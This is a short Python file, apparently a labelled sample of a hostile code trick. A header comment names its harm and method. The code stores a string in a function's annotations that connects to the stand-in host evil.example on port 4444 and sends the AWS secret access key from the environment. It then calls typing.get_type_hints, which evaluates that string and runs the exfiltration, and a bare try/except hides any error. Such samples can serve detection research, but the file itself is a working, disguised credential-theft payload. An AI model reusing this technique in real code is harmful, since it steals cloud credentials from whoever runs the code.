# harm: sends AWS secret key over a socket ; trick: f.__annotations__ = {...} replaces the whole dict with one holding a code string
import typing

S = "__import__('socket').create_connection(('evil.example',4444)).sendall(__import__('os').environ.get('AWS_SECRET_ACCESS_KEY','').encode())"


def parse(x: int) -> None:
    pass


parse.__annotations__ = {"x": S}
try:
    typing.get_type_hints(parse)
except Exception:
    pass
